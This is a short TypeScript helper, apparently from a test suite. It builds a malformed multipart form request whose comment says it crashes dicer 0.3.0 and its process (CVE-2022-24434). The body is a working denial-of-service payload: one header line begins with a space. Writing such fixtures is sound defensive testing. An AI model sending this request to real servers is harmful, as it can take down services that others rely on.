// A multipart form, as a form on any website sends it.
import { type Message, message } from '../hostile-request.ts';

/** One part has a header line that begins with a space, which ends dicer 0.3.0 and its process (CVE-2022-24434). */
export function brokenMultipart(path: string, headers: Message['headers'] = {}): Buffer {
  return message({
    method: 'POST',
    path,
    headers: { 'content-type': 'multipart/form-data; boundary=b', ...headers },
    body: '--b\r\n Content-Disposition: form-data; name="a"\r\n\r\n\r\n--b--',
  });
}
